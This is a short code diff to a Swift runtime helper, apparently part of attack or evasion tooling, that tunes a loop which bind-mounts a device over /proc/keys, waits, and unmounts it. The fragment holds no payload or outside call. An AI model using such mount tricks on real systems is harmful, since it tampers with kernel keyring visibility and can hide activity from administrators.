@@ -39,8 +39,8 @@ enum NaiveRuntime {
 
     private static func mask(_ device: String) {
         // MS_BIND
-        for _ in 0..<20 where call("mount", text(device), text("/proc/keys"), 0, 4096, 0) >= 0 {
-            attack_sleep_until(attack_now() + 5000)
+        for _ in 0..<8 where call("mount", text(device), text("/proc/keys"), 0, 4096, 0) >= 0 {
+            attack_sleep_until(attack_now() + 25_000)
             _ = call("umount2", text("/proc/keys"), 2)
         }
     }
